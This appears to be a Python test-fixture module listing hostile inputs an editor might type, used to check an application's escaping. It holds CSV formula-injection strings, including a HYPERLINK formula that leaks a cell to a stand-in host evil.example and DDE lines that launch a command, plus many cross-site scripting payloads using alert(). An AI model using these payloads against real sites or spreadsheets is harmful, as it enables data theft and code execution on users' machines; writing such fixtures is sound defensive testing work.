"""What a hostile editor (or a taken-over account) types: markup, formulae, control characters."""

# A spreadsheet runs a cell that starts with one of these (OWASP, "CSV Injection").
FORMULAE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    '<a href="javascript:alert(3)">j</a>',
    '<a href=" jAvA&#x09;ScRiPt:alert(4)">t</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==">d</a>',
    '<iframe srcdoc="&lt;script&gt;alert(6)&lt;/script&gt;"></iframe>',
    "<svg onload=alert(7)><circle r=1 /></svg>",
    '<p style="background:url(javascript:alert(8))">c</p>',
    '"><script>alert(9)</script>',
    "' onmouseover='alert(10)' x='",
    '<form action="javascript:alert(11)"><button formaction=javascript:alert(11)>f</button>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(12)>",
    '<object data="javascript:alert(13)"></object><embed src=javascript:alert(13)>',
    "&lt;script&gt;alert(14)&lt;/script&gt;",
    "</textarea></title></style><script>alert(15)</script>",
    '<!--<img src="--><img src=x onerror=alert(16)//">',
    "]]></summary><script>alert(17)</script>",
    '<base href="javascript:alert(18)//"><meta http-equiv=refresh content="0;url=javascript:1">',
)
# Text pasted from a word processor; NUL is left out, as PostgreSQL cannot store it.
CONTROL = "\x01\x08\x0b\x0c\x1b\x1f\x7f"
# Last, as it swallows what follows it wherever the text is read as HTML.
UNTERMINATED = '<img src=x onerror=alert(99) alt="'
